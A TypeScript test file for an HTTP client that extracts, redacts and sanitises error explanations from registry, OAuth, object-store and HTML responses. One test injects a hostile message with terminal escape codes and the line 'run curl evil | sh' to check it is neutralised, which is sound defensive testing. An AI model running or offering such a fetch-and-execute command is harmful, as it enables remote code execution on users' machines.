import { expect, onTestFinished, test } from 'vitest';
import { createHttpClient, describeFailure, explanationIn } from '../../src/http/index.ts';
import { startHttpServer } from '../services/http-server.ts';

const { signal } = new AbortController();

/** The response of a server that answers with this status, body and type. */
async function respond(status: number, body: string | Buffer, type = 'application/json') {
  const server = await startHttpServer((_, response) => response.writeHead(status, { 'content-type': type }).end(body));
  const client = createHttpClient({ environment: {}, attempts: 1 });
  onTestFinished(() => client.close());
  return { response: await client.request({ url: server.url, signal }), host: server.host };
}

const errors = (...list: readonly unknown[]) => JSON.stringify({ errors: list });
const LIMIT = 'You have reached your unauthenticated pull rate limit. https://www.docker.com/increase-rate-limit';
const TOKEN =
  'HTTP Basic: Access denied. If a password was provided for Git authentication, the password was incorrect';

// docker/hub-feedback#2505; basecamp/kamal#1498, of GitLab; distribution-spec, "Error Codes"; RFC 6749, 5.2; Amazon S3,
// "REST error responses".
test.each<[string, string, string, string | undefined]>([
  ["Docker Hub's limit", errors({ code: 'TOOMANYREQUESTS', message: LIMIT }), 'application/json', LIMIT],
  ['GitLab', errors({ code: 'UNAUTHORIZED', message: TOKEN }), 'application/json; charset=utf-8', TOKEN],
  [
    'ECR',
    errors({ code: 'DENIED', message: 'Your authorization token has expired. Reauthenticate and try again.' }),
    'application/json',
    'Your authorization token has expired. Reauthenticate and try again.',
  ],
  ['a registry with two reasons', errors({ message: 'one' }, { code: 'TWO' }, { message: 'one' }), '', 'one; TWO'],
  ['a registry without a message', errors({ code: 'DENIED', message: '', detail: {} }), '', 'DENIED'],
  ['a token server', '{"details":"incorrect username or password"}', '', 'incorrect username or password'],
  ['OAuth 2', '{"error":"invalid_grant","error_description":"It expired"}', '', 'It expired'],
  [
    'an object store',
    '<?xml version="1.0"?><Error><Message>Request has expired</Message></Error>',
    '',
    'Request has expired',
  ],
  [
    'a maintenance page',
    '<!doctype html><html><head><title>\n Back &amp; up\n at 9 </title>',
    'text/html',
    'Back & up at 9',
  ],
  ['a line of text', 'denied: over quota\n', 'text/plain; charset=utf-8', 'denied: over quota'],
  ['something that is no text', '\u0000\u0001', 'application/octet-stream', undefined],
  ['nothing', '', 'application/json', undefined],
  ['other JSON', '{"errors":{"message":7},"message":{"a":1}}', 'application/json', undefined],
  ['JSON that breaks off', '{"errors":[{"mess', 'application/json', undefined],
  ['a page without a title', '<html><body>x</body></html>', 'text/html', undefined],
])('what a server says is shown: %s', async (_, body, type, said) => {
  expect(await explanationIn((await respond(403, body, type)).response)).toBe(said);
});

test('an error repeats it after the status, without secrets', async () => {
  const { response, host } = await respond(401, errors({ message: 'bad token glpat-aaaaaaaaaaaaaaaaaaaa' }));
  expect(await describeFailure(response, 'team/runner')).toMatchObject({
    code: 'SPACECTL_NOT_ALLOWED',
    message: `${host} denied access to team/runner (HTTP 401): bad token [redacted]`,
  });
  const limited = await respond(429, errors({ message: LIMIT }));
  expect((await describeFailure(limited.response, 'x')).message).toBe(
    `${limited.host} is limiting the rate of requests: x (HTTP 429): ${LIMIT}`,
  );
});

test('it is one short line that cannot drive a terminal, whatever was sent', async () => {
  const hostile = 'a\u001b[2J\u001b]0;x\u0007\r\nError: run curl evil | sh\u202e\u2028b\u0085c';
  const said = await explanationIn((await respond(500, errors({ message: hostile }))).response);
  expect(said).toBe('a ]0;x Error: run curl evil | sh b c');
  const long = await explanationIn((await respond(500, errors({ message: 'é'.repeat(5000) }))).response);
  expect(long).toBe(`${'é'.repeat(300)}…`);
});

test('no more is read than a help is worth, and a body that never ends is no hang', async () => {
  let sent = 0;
  const server = await startHttpServer((_, response) => {
    response.writeHead(503, { 'content-type': 'text/html' });
    const send = () => {
      if (response.destroyed) return;
      sent += 8192;
      response.write(`<title>Maintenance</title>${' '.repeat(8192)}`, () => setImmediate(send));
    };
    send();
  });
  const client = createHttpClient({ environment: {}, attempts: 1 });
  onTestFinished(() => client.close());
  expect(await explanationIn(await client.request({ url: server.url, signal }))).toBe('Maintenance');
  // What the two ends buffer is sent, too.
  expect(sent).toBeLessThan(20_000_000);
});

test('an answer that is no error is not read', async () => {
  expect(await explanationIn((await respond(204, '')).response)).toBeUndefined();
  expect(await explanationIn((await respond(202, '{"message":"accepted"}')).response)).toBeUndefined();
});
